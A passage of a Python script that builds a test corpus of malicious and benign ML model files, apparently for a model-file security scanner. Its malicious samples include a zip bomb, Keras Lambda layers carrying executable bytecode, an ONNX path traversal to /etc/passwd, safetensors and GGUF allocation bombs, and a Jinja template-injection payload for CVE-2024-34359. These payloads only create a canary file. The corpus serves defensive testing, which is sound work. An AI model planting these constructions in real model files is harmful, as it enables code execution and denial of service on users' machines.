    )
    b.bad(
        "bomb.zip",
        _zip_bomb(),
        "decompression bomb (256 MiB of zeros, ratio ~1000:1)",
        "zip",
        loader=None,
        structural="zip_bomb",
    )

    # Keras: Lambda layers carry marshalled Python bytecode
    lam = _marshal_lambda(f"(open({C!r}, 'w').close(), x)[1]")
    b.bad(
        "lambda.keras",
        _keras_zip(_keras_sequential([_keras_dense("dense", 4), _keras_lambda("evil", lam)])),
        "Keras v3 .keras with a Lambda layer",
        "keras",
        loader="keras_lambda",
    )
    inner = _keras_sequential([_keras_dense("inner_dense", 4), _keras_lambda("hidden", lam)], name="block")
    b.bad(
        "nested_lambda.keras",
        _keras_zip(_keras_sequential([_keras_dense("dense", 4), inner])),
        "Keras v3 .keras with a Lambda inside a nested sub-model",
        "keras",
        loader="keras_lambda",
    )
    h5 = _keras_h5(_keras2_config([_keras2_dense("dense_1"), _keras2_lambda("lambda_1", lam)]))
    if h5 is not None:
        b.bad("lambda.h5", h5, "Keras HDF5 .h5 with a Lambda in model_config", "keras-h5", loader="keras_lambda")
        nested2 = {
            "class_name": "Sequential",
            "config": {
                "name": "sub",
                "layers": [_keras2_dense("inner"), _keras2_lambda("lambda_inner", lam)],
            },
        }
        h5n = _keras_h5(_keras2_config([_keras2_dense("dense_1"), nested2]))
        assert h5n is not None
        b.bad(
            "nested_lambda.h5",
            h5n,
            "Keras HDF5 .h5 with a Lambda inside a nested sub-model",
            "keras-h5",
            loader="keras_lambda",
        )

    # ONNX and safetensors: not code execution, but data-exfiltration / parser attacks
    _onnx_malicious(b)
    _safetensors_malicious(b)
    _gguf_malicious(b)


def _sevenzip(entries: list[tuple[str, bytes]]) -> bytes | None:
    try:
        import py7zr
    except ImportError:
        return None
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp) / "a.7z"
        with py7zr.SevenZipFile(out, "w") as z:
            for name, data in entries:
                z.writestr(data, name)
        return out.read_bytes()


def _zip_bomb() -> bytes:
    size = 256 * 2**20
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * 2**20
    body = b"".join(comp.compress(chunk) for _ in range(size // len(chunk))) + comp.flush()
    crc = 0
    for _ in range(size // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    name = b"weights.bin"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(body), size, len(name), 0)
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        20,
        20,
        0,
        8,
        0,
        0x21,
        crc,
        len(body),
        size,
        len(name),
        0,
        0,
        0,
        0,
        0o644 << 16,
        0,
    )
    cd_off = len(local) + len(name) + len(body)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central) + len(name), cd_off, 0)
    return local + name + body + central + name + end


# ---- Keras helpers (written by hand as Keras 3 / tf.keras 2 would; tensorflow is not installed)


def _keras_dense(name: str, units: int) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "units": units,
            "activation": "relu",
            "use_bias": True,
            "kernel_initializer": {
                "module": "keras.initializers",
                "class_name": "GlorotUniform",
                "config": {"seed": None},
                "registered_name": None,
            },
            "bias_initializer": {
                "module": "keras.initializers",
                "class_name": "Zeros",
                "config": {},
                "registered_name": None,
            },
            "kernel_regularizer": None,
            "bias_regularizer": None,
            "kernel_constraint": None,
            "bias_constraint": None,
        },
        "build_config": {"input_shape": [None, 4]},
    }


def _keras_dropout(name: str) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dropout",
        "registered_name": None,
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "rate": 0.2,
            "seed": None,
            "noise_shape": None,
        },
    }


def _keras_lambda(name: str, code_b64: str) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": code_b64, "defaults": None, "closure": None},
            },
            "output_shape": None,
            "arguments": {},
        },
        "build_config": {"input_shape": [None, 4]},
    }


def _keras_sequential(layers: list[dict[str, Any]], name: str = "sequential") -> dict[str, Any]:
    inp = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "registered_name": None,
        "config": {"batch_shape": [None, 4], "dtype": "float32", "sparse": False, "name": f"{name}_input"},
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {"name": name, "trainable": True, "dtype": "float32", "layers": [inp, *layers]},
        "build_config": {"input_shape": [None, 4]},
        "compile_config": None,
    }


def _dense_shapes(layers: list[dict[str, Any]]) -> list[tuple[dict[str, Any], int, int]]:
    """(layer, input width, units) of each top-level Dense layer; the models take 4 features."""
    width, out = 4, []
    for layer in layers:
        if layer["class_name"] == "Dense":
            units = layer["config"]["units"]
            out.append((layer, width, units))
            width = units
    return out


def _weights(rows: int, cols: int) -> Any:
    import numpy as np

    return np.linspace(-0.5, 0.5, rows * cols, dtype=np.float32).reshape(rows, cols) if cols else None


def _keras_zip(config: dict[str, Any]) -> bytes:
    """A .keras archive: config, metadata and a model.weights.h5 laid out as Keras 3 saves it."""
    import numpy as np

    meta = {"keras_version": "3.6.0", "date_saved": "2024-11-01@00:00:00"}
    layers = config["config"]["layers"][1:]
    for layer, width, _ in _dense_shapes(layers):
        layer["build_config"] = {"input_shape": [None, width]}

    def fill(f: Any) -> None:
        # Keras names the weight groups by class (dense, dense_1, dropout), not by layer name
        seen: dict[str, int] = {}
        dense = {id(layer): (w, u) for layer, w, u in _dense_shapes(layers)}
        for layer in layers:
            kind = {"Dense": "dense", "Dropout": "dropout", "Lambda": "lambda"}.get(layer["class_name"])
            if kind is None:
                continue
            n = seen.get(kind, 0)
            seen[kind] = n + 1
            g = f.create_group(f"layers/{kind if n == 0 else f'{kind}_{n}'}/vars")
            g.attrs["name"] = layer["config"]["name"]
            if id(layer) in dense:
                w, u = dense[id(layer)]
                g.create_dataset("0", data=_weights(w, u))
                g.create_dataset("1", data=np.zeros(u, dtype=np.float32))
        f.create_group("vars").attrs["name"] = config["config"]["name"]

    weights = _h5_bytes(fill)
    entries = [("metadata.json", json.dumps(meta).encode()), ("config.json", json.dumps(config).encode())]
    if weights is not None:
        entries.append(("model.weights.h5", weights))
    return _zip(entries, compress=zipfile.ZIP_DEFLATED)


def _keras2_dense(name: str) -> dict[str, Any]:
    return {
        "class_name": "Dense",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "units": 4,
            "activation": "relu",
            "use_bias": True,
        },
    }


def _keras2_lambda(name: str, code_b64: str) -> dict[str, Any]:
    return {
        "class_name": "Lambda",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": "float32",
            "function": [code_b64, None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def _keras2_config(layers: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"},
                },
                *layers,
            ],
        },
    }


def _h5_bytes(fill: Callable[[Any], Any]) -> bytes | None:
    try:
        import h5py
    except ImportError:
        return None
    bio = io.BytesIO()
    with h5py.File(bio, "w", track_order=True) as f:
        fill(f)
    return bio.getvalue()


def _keras_h5(config: dict[str, Any]) -> bytes | None:
    def fill(f: Any) -> None:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(config)
        import numpy as np

        # model_weights laid out as Keras saves a legacy .h5: one group per top-level layer
        layers = config["config"]["layers"][1:]
        dense = {id(layer): (w, u) for layer, w, u in _dense_shapes(layers)}
        g = f.create_group("model_weights")
        g.attrs["backend"] = "tensorflow"
        g.attrs["keras_version"] = "2.15.0"
        g.attrs["layer_names"] = [layer["config"]["name"].encode() for layer in layers]
        for layer in layers:
            name = layer["config"]["name"]
            d = g.create_group(name)
            if id(layer) in dense:
                w, u = dense[id(layer)]
                d.attrs["weight_names"] = [f"sequential/{name}/kernel".encode(), f"sequential/{name}/bias".encode()]
                d.create_dataset(f"sequential/{name}/kernel", data=_weights(w, u))
                d.create_dataset(f"sequential/{name}/bias", data=np.zeros(u, dtype=np.float32))
            else:
                d.attrs["weight_names"] = np.array([], dtype=np.float64)
        g.create_group("top_level_model_weights").attrs["weight_names"] = np.array([], dtype=np.float64)

    return _h5_bytes(fill)


# ---- ONNX and safetensors


def _onnx_model(nodes: list[Any], inits: list[Any], *, domain_imports: tuple[str, ...] = ()) -> Any:
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        nodes,
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])],
        inits,
    )
    opsets = [helper.make_opsetid("", 17)] + [helper.make_opsetid(d, 1) for d in domain_imports]
    return helper.make_model(graph, opset_imports=opsets, producer_name="bastion-corpus", ir_version=8)


def _onnx_malicious(b: _Builder) -> None:
    from onnx import TensorProto, helper

    w = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4])
    w.data_location = TensorProto.EXTERNAL
    for k, v in (("location", "../../etc/passwd"), ("offset", "0"), ("length", "16")):
        e = w.external_data.add()
        e.key, e.value = k, v
    m = _onnx_model([helper.make_node("Add", ["X", "W"], ["Y"])], [w])
    b.add(
        "external_data_traversal.onnx",
        m.SerializeToString(),
        malicious=True,
        technique="ONNX external data location ../../etc/passwd (path traversal)",
        fmt="onnx",
        structural="onnx_external_escape",
    )
    node = helper.make_node("EvilOp", ["X"], ["Y"], domain="com.attacker.customops")
    m2 = _onnx_model([node], [], domain_imports=("com.attacker.customops",))
    b.add(
        "custom_op_domain.onnx",
        m2.SerializeToString(),
        malicious=True,
        technique="ONNX node in a custom-op domain (needs a native custom-op library)",
        fmt="onnx",
        structural="onnx_custom_domain",
    )


def _safetensors_bytes(header: dict[str, Any], body: bytes, *, size: int | None = None) -> bytes:
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h) if size is None else size) + h + body


def _safetensors_malicious(b: _Builder) -> None:
    body = struct.pack("<8f", *range(8))
    oob = {
        "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [1024], "data_offsets": [16, 16 + 4096]},
    }
    b.add(
        "offsets_out_of_bounds.safetensors",
        _safetensors_bytes(oob, body),
        malicious=True,
        technique="safetensors header offsets point past the end of the file",
        fmt="safetensors",
        structural="safetensors_out_of_bounds",
    )
    ovl = {
        "a": {"dtype": "F32", "shape": [6], "data_offsets": [0, 24]},
        "b": {"dtype": "F32", "shape": [4], "data_offsets": [16, 32]},
    }
    b.add(
        "overlapping_tensors.safetensors",
        _safetensors_bytes(ovl, body),
        malicious=True,
        technique="safetensors tensors overlap (aliasing / parser confusion)",
        fmt="safetensors",
        structural="safetensors_overlap",
    )
    b.add(
        "header_size_lie.safetensors",
        _safetensors_bytes({"a": {"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}}, body, size=2**40),
        malicious=True,
        technique="safetensors header length larger than the file (allocation bomb)",
        fmt="safetensors",
        structural="safetensors_header_size",
    )


# ----------------------------------------------------------------------------------------------
# GGUF (llama.cpp): hand-built v3 headers, no hub download

_GGUF_U32, _GGUF_F32, _GGUF_STR, _GGUF_ARR = 4, 6, 8, 9


def _gguf_str(text: str) -> bytes:
    raw = text.encode()
    return struct.pack("<Q", len(raw)) + raw


def _gguf_kv(key: str, vtype: int, value: Any) -> bytes:
    out = _gguf_str(key) + struct.pack("<I", vtype)
    if vtype == _GGUF_STR:
        return out + _gguf_str(value)
    if vtype == _GGUF_U32:
        return out + struct.pack("<I", value)
    if vtype == _GGUF_F32:
        return out + struct.pack("<f", value)
    if vtype == _GGUF_ARR:  # array of strings
        return out + struct.pack("<IQ", _GGUF_STR, len(value)) + b"".join(_gguf_str(v) for v in value)
    raise ValueError(vtype)


def _gguf(meta: list[tuple[str, int, Any]], tensors: list[tuple[str, tuple[int, ...]]]) -> bytes:
    """A GGUF v3 file: metadata, F32 tensor infos, padding to 32 bytes, then the tensor data."""
    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(meta))
    out += b"".join(_gguf_kv(k, t, v) for k, t, v in meta)
    data = b""
    for name, shape in tensors:
        out += _gguf_str(name) + struct.pack("<I", len(shape)) + b"".join(struct.pack("<Q", d) for d in shape)
        out += struct.pack("<IQ", 0, len(data))  # GGML_TYPE_F32, offset into the data section
        n = 1
        for d in shape:
            n *= d
        data += struct.pack(f"<{n}f", *(0.01 * i for i in range(n)))
        data += b"\0" * (-len(data) % 32)
    out += b"\0" * (-len(out) % 32)
    return out + data


_GGUF_TOKENS = ["<s>", "</s>", "hello", "world"]
# a real-world style template (ChatML)
CHATML_TEMPLATE = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n' }}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def _gguf_model(template: str | None) -> bytes:
    meta: list[tuple[str, int, Any]] = [
        ("general.architecture", _GGUF_STR, "llama"),
        ("general.name", _GGUF_STR, "tiny"),
        ("general.alignment", _GGUF_U32, 32),
        ("llama.context_length", _GGUF_U32, 64),
        ("llama.rope.freq_base", _GGUF_F32, 10000.0),
        ("tokenizer.ggml.model", _GGUF_STR, "llama"),
        ("tokenizer.ggml.tokens", _GGUF_ARR, _GGUF_TOKENS),
    ]
    if template is not None:
        meta.append(("tokenizer.chat_template", _GGUF_STR, template))
    return _gguf(meta, [("token_embd.weight", (4, 8)), ("output_norm.weight", (8,))])


def _gguf_malicious(b: _Builder) -> None:
    # CVE-2024-34359 ("Llama Drama"): llama-cpp-python rendered the GGUF chat template in an
    # unsandboxed jinja2 Environment; the template reaches os through a global's __globals__
    ssti = "{{ cycler.__init__.__globals__.os.popen(" + repr(b.cmd) + ").read() }}" + CHATML_TEMPLATE
    b.bad(
        "chat_template_ssti.gguf",
        _gguf_model(ssti),
        "GGUF chat template with a Jinja server-side template injection (CVE-2024-34359)",
        "gguf",
        loader="gguf",
    )
    bomb = bytearray(_gguf_model(None))
    struct.pack_into("<Q", bomb, 16, 2**60)  # metadata count
    b.add(
        "kv_count_bomb.gguf",
        bytes(bomb),
        malicious=True,
        technique="GGUF header metadata count far beyond the file size (allocation bomb)",
        fmt="gguf",
        structural="gguf_header_lies",
    )
    lie = bytearray(_gguf_model(None))
    struct.pack_into("<Q", lie, 24, 2**40)  # length of the first metadata key
    b.add(
        "string_length_lie.gguf",
        bytes(lie),
        malicious=True,
        technique="GGUF metadata string length larger than the file (out-of-bounds read)",
        fmt="gguf",
        structural="gguf_header_lies",
    )


# ----------------------------------------------------------------------------------------------
# benign samples: real models saved by their libraries


def _benign(b: _Builder) -> None:
    import joblib
    import numpy as np
    import pandas as pd
    import torch
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import load_iris
    from sklearn.ensemble import (
        GradientBoostingClassifier,
        HistGradientBoostingClassifier,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeRegressor

    def good(name: str, data: bytes, technique: str, fmt: str) -> None:
        b.add(name, data, malicious=False, technique=technique, fmt=fmt)

    def jl(obj: Any, compress: Any = 0) -> bytes:
        buf = io.BytesIO()
        joblib.dump(obj, buf, compress=compress)
        return buf.getvalue()

    X, y = load_iris(return_X_y=True)
    logreg = LogisticRegression(max_iter=300).fit(X, y)
    good(
        "sklearn_logreg.pkl",
        pickle.dumps(logreg, protocol=5),
        "sklearn LogisticRegression, pickle p5",
        "pickle",
    )
    good(
        "sklearn_logreg_p2.sav",
        pickle.dumps(logreg, protocol=2),
        "sklearn LogisticRegression, pickle p2 .sav",
        "pickle",
    )
    rf = RandomForestClassifier(n_estimators=5, max_depth=3, random_state=0).fit(X, y)
    good("sklearn_rf.joblib", jl(rf, 3), "sklearn RandomForest, joblib zlib", "joblib")
    good(
        "sklearn_rf_plain.joblib",
        jl(rf),
        "sklearn RandomForest, joblib uncompressed (numpy arrays inline)",
        "joblib",
    )
    good(
        "sklearn_pipeline_svc.pkl",
        pickle.dumps(make_pipeline(StandardScaler(), SVC()).fit(X, y), protocol=4),
        "sklearn Pipeline(StandardScaler, SVC)",
        "pickle",
    )
    df = pd.DataFrame(
        {"age": np.arange(60) % 50 + 20, "city": ["a", "b", "c"] * 20, "income": np.linspace(1e3, 9e3, 60)}
    )
    yy = np.arange(60) % 2
    ct = ColumnTransformer(
        [
            ("num", StandardScaler(), ["age", "income"]),
            ("cat", OneHotEncoder(handle_unknown="ignore"), ["city"]),
        ]
    )
    ctp = Pipeline([("prep", ct), ("gb", GradientBoostingClassifier(n_estimators=5, random_state=0))]).fit(df, yy)
    good(
        "sklearn_columntransformer_gb.joblib.xz",
        jl(ctp, ("lzma", 3)),
        "sklearn ColumnTransformer+GradientBoosting pipeline, joblib lzma",
        "joblib",
    )
    good(
        "sklearn_kmeans.joblib.gz",
        jl(KMeans(n_clusters=3, n_init=2, random_state=0).fit(X), ("gzip", 3)),
        "sklearn KMeans, joblib gzip",
        "joblib",
    )
    good(
        "sklearn_logreg.joblib.lz4",
        jl(logreg, ("lz4", 3)),
        "sklearn LogisticRegression, joblib lz4",
        "joblib",
    )
    good(
        "sklearn_tree.joblib.bz2",
        jl(DecisionTreeRegressor(max_depth=3, random_state=0).fit(X, y), ("bz2", 3)),
        "sklearn DecisionTreeRegressor, joblib bz2",
        "joblib",
    )
    good(
        "sklearn_hgb.pkl",
        pickle.dumps(HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(X, y)),
        "sklearn HistGradientBoosting",
        "pickle",
    )
    good(
        "sklearn_mlp.pkl",
        pickle.dumps(MLPClassifier(hidden_layer_sizes=(5,), max_iter=20, random_state=0).fit(X, y)),
        "sklearn MLPClassifier",
        "pickle",
    )
    texts = ["good model", "bad model", "great data", "poor data"] * 5
    tfidf = make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(texts, [1, 0, 1, 0] * 5)
    good(
        "sklearn_tfidf_logreg.pkl",
        pickle.dumps(tfidf, protocol=4),
        "sklearn TfidfVectorizer pipeline",
        "pickle",
    )
    try:
        import skops.io as sio

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            good(
                "sklearn_pipeline.skops",
                _normalize_zip(sio.dumps(make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y))),
                "sklearn Pipeline saved with skops",
                "skops",
            )
    except ImportError:
        pass

    buf = io.BytesIO()
    np.save(buf, np.linspace(0, 1, 100, dtype=np.float64).reshape(10, 10))
    good("weights.npy", buf.getvalue(), "numpy float64 .npy", "numpy")
    a = io.BytesIO()
    np.save(a, np.arange(12, dtype=np.int32))
    bb = io.BytesIO()
    np.save(bb, np.ones((3, 3), dtype=np.float16))
    good("arrays.npz", _zip([("a.npy", a.getvalue()), ("b.npy", bb.getvalue())]), "numpy .npz", "numpy")
    good(
        "arrays_compressed.npz",
        _zip([("a.npy", a.getvalue()), ("b.npy", bb.getvalue())], compress=zipfile.ZIP_DEFLATED),
        "numpy compressed .npz",
        "numpy",
    )
    good("dataframe.pkl", pickle.dumps(df, protocol=5), "pandas DataFrame pickle", "pickle")
    good(
        "dict_of_arrays.pkl",
        pickle.dumps({"mean": np.zeros(3), "std": np.ones(3), "names": ["a", "b", "c"]}),
        "dict of numpy arrays",
        "pickle",
    )

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Dropout(0.1), torch.nn.Linear(8, 3))
    buf = io.BytesIO()
    torch.save(net.state_dict(), buf)
    sd_bytes = buf.getvalue()
    good("torch_state_dict.pt", sd_bytes, "torch state_dict (zip)", "torch")
    buf = io.BytesIO()
    torch.save(net, buf)
    good("torch_whole_module.pt", buf.getvalue(), "torch whole nn.Sequential module (zip)", "torch")
    buf = io.BytesIO()
    torch.save(
        {
            "model": net.state_dict(),
            "epoch": 7,
            "lr": 1e-3,
            "extra": {
                "bf16": torch.ones(2, dtype=torch.bfloat16),
                "mask": torch.ones(2, dtype=torch.bool),
                "q": torch.arange(4, dtype=torch.int8),
            },
        },
        buf,
    )
    good("torch_checkpoint_dtypes.pth", buf.getvalue(), "torch checkpoint dict with several dtypes", "torch")
    buf = io.BytesIO()
    torch.save(net.state_dict(), buf, _use_new_zipfile_serialization=False)
    good("torch_legacy_state_dict.pt", buf.getvalue(), "torch legacy (non-zip) state_dict", "torch-legacy")

    from safetensors.numpy import save as st_save

    good(
        "model.safetensors",
        st_save(
            {"w": np.arange(16, dtype=np.float32).reshape(4, 4), "b": np.zeros(4, dtype=np.float32)},
            metadata={"format": "np"},
        ),
        "safetensors (safetensors package)",
        "safetensors",
    )
    good(
        "handwritten.safetensors",
        _safetensors_bytes(
            {
                "__metadata__": {"source": "bastion"},
                "x": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                "y": {"dtype": "I64", "shape": [2], "data_offsets": [16, 32]},
            },
            struct.pack("<4f2q", 1, 2, 3, 4, 5, 6),
        ),
        "safetensors written by hand",
        "safetensors",
    )

    from skl2onnx import to_onnx

    good(
        "sklearn_logreg.onnx",
        to_onnx(logreg, X[:1].astype(np.float32)).SerializeToString(),
        "ONNX from skl2onnx (LogisticRegression)",
        "onnx",
    )
    good(
        "sklearn_rf.onnx",
        to_onnx(rf, X[:1].astype(np.float32)).SerializeToString(),
        "ONNX from skl2onnx (RandomForest, ai.onnx.ml domain)",
        "onnx",
    )

    good(
        "standard.keras",
        _keras_zip(_keras_sequential([_keras_dense("dense", 8), _keras_dropout("dropout"), _keras_dense("out", 3)])),
        "Keras v3 .keras with standard layers only",
        "keras",
    )
    h5 = _keras_h5(_keras2_config([_keras2_dense("dense_1"), _keras2_dense("dense_2")]))
    if h5 is not None:
        good("standard.h5", h5, "Keras HDF5 .h5 with standard layers only", "keras-h5")

    good(
        "models.zip",
        _zip(
            [("m/logreg.pkl", pickle.dumps(logreg)), ("m/w.npy", buf_npy(np)), ("m/net.pt", sd_bytes)],
            compress=zipfile.ZIP_DEFLATED,
        ),
        "zip of benign sklearn pickle, npy and torch state_dict",
        "zip",
    )
    good(
        "state_dict.tar.gz",
        _tar([("ckpt/model.pt", sd_bytes)], mode="w:gz"),
        "tar.gz holding a torch state_dict",
        "tar",
    )
    good(
        "logreg.pkl.gz",
        gzip.compress(pickle.dumps(logreg), mtime=0),
        "gzip-compressed sklearn pickle",
        "gzip",
    )
    good("tiny_llama_chatml.gguf", _gguf_model(CHATML_TEMPLATE), "GGUF v3 llama model with a ChatML chat template",
         "gguf")
    good("tiny_llama.gguf", _gguf_model(None), "GGUF v3 llama model without a chat template", "gguf")

    try:
        import xgboost as xgb

        xm = xgb.XGBClassifier(n_estimators=3, max_depth=2, random_state=0).fit(X, y)
        good("xgboost_classifier.pkl", pickle.dumps(xm), "XGBoost XGBClassifier pickle", "pickle")
    except ImportError:
        pass
    try:
        import lightgbm as lgb

        lm = lgb.LGBMClassifier(n_estimators=3, num_leaves=4, verbose=-1, random_state=0).fit(X, y)
        good("lightgbm_classifier.joblib", jl(lm), "LightGBM LGBMClassifier joblib", "joblib")
    except ImportError:
        pass


def buf_npy(np: Any) -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.eye(3))
    return buf.getvalue()


def build_corpus(dest: Path, canary: Path) -> list[Sample]:
    """Write the corpus under ``dest`` (``malicious/`` and ``benign/``) and return its samples.

    Parameters
    ----------
    dest
        Folder to fill; created if missing. Existing files of the same name are overwritten.
    canary
        Absolute path of the file every malicious payload would create when loaded.
    """
    dest = Path(dest)
    canary = Path(canary).resolve()
    dest.mkdir(parents=True, exist_ok=True)
    b = _Builder(dest, canary)
    with warnings.catch_warnings():
        # library chatter (convergence, deprecations of the legacy formats we write on purpose)
        # must not turn into test errors; the corpus content is what matters
        warnings.simplefilter("ignore")
        _malicious_pickles(b)
        _malicious_containers(b)
        _benign(b)
        bad, good = _sibling("_torch_legacy").samples(b.canary)
        for name, (data, technique, fmt) in bad.items():
            b.bad(name, data, technique, fmt, loader="torch")
        for name, (data, technique, fmt) in good.items():
            b.add(name, data, malicious=False, technique=technique, fmt=fmt)
    (dest / "manifest.json").write_text(
        json.dumps(
            {"schema_version": 1, "canary": str(canary), "samples": [s.to_dict() for s in b.samples]},
            indent=1,
        )
    )
    return b.samples


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("dest", type=Path)
    ap.add_argument("--canary", type=Path, required=True)
    args = ap.parse_args()
    samples = build_corpus(args.dest, args.canary)
    mal = sum(s.malicious for s in samples)
    print(f"{len(samples)} samples ({mal} malicious, {len(samples) - mal} benign) in {args.dest}")


if __name__ == "__main__":
    main()
